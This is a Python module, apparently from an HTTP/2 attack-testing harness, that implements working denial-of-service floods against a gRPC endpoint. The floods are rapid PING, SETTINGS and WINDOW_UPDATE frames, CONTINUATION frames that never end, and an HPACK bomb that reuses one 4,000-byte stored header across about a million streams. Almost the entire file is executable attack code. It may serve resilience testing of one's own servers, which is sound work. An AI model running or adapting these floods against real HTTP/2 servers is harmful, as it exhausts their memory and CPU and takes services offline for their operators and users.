"""Frames that cost the sender nothing: SETTINGS, PING, CONTINUATION and bombs of HPACK."""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    WINDOW_UPDATE,
    connected,
    drain,
    frame,
    header_block,
    settings,
)

_METHOD = "/headrace.v1.ShardService/ListDatasets"
_FRAMES = 1000


def _pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8)) * _FRAMES


def _settings() -> Iterator[bytes]:
    while True:
        yield settings((4, 65535), (5, 16384), (4, 1)) * _FRAMES


def _window_updates() -> Iterator[bytes]:
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * _FRAMES


def _continuations() -> Iterator[bytes]:
    """Headers that never end: 1 MiB of them and more."""
    yield frame(HEADERS, 0, 1, header_block(_METHOD))
    more = b"\x00" + b"\x01a" + b"\x7f\x81\x7c" + bytes(b"v" * 16_000)
    while True:
        yield frame(CONTINUATION, 0, 1, more)


def _empty_continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, header_block(_METHOD))
    while True:
        yield frame(CONTINUATION, 0, 1) * _FRAMES


def _hpack_bombs() -> Iterator[bytes]:
    """A header of 4,000 bytes that is put into the table once, and then named by a byte each."""
    stored = b"\x40" + b"\x01a" + b"\x7f\xa1\x1e" + b"v" * 4000
    yield frame(HEADERS, END_HEADERS, 1, header_block(_METHOD) + stored)
    block = header_block(_METHOD) + b"\xbe" * 16_000
    for number in range(1, 1 << 20):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, block)


_FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "PING": _pings,
    "SETTINGS": _settings,
    "WINDOW_UPDATE": _window_updates,
    "CONTINUATION": _continuations,
    "empty CONTINUATION": _empty_continuations,
    "HPACK": _hpack_bombs,
}


def _strike(target: Target, begin: Begin) -> Counts:
    sent: Counter[str] = Counter()
    until = begin()
    slice_s = (until - time.monotonic()) / len(_FLOODS) / 2
    while time.monotonic() < until:
        for name, flood in _FLOODS.items():
            end = min(until, time.monotonic() + slice_s)
            with suppress(OSError), connected(target.place) as connection:
                sent[f"KiB of {name}"] += _pour(connection, flood(), end) // 1024
    return sent


def _pour(connection: socket.socket, frames: Iterator[bytes], end: float) -> int:
    sent = 0
    while time.monotonic() < end and drain(connection):
        part = next(frames)
        connection.settimeout(max(0.01, end - time.monotonic()))
        connection.sendall(part)
        sent += len(part)
    return sent


ATTACK = Attack("floods of frames", _strike, needs_proxy=True)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
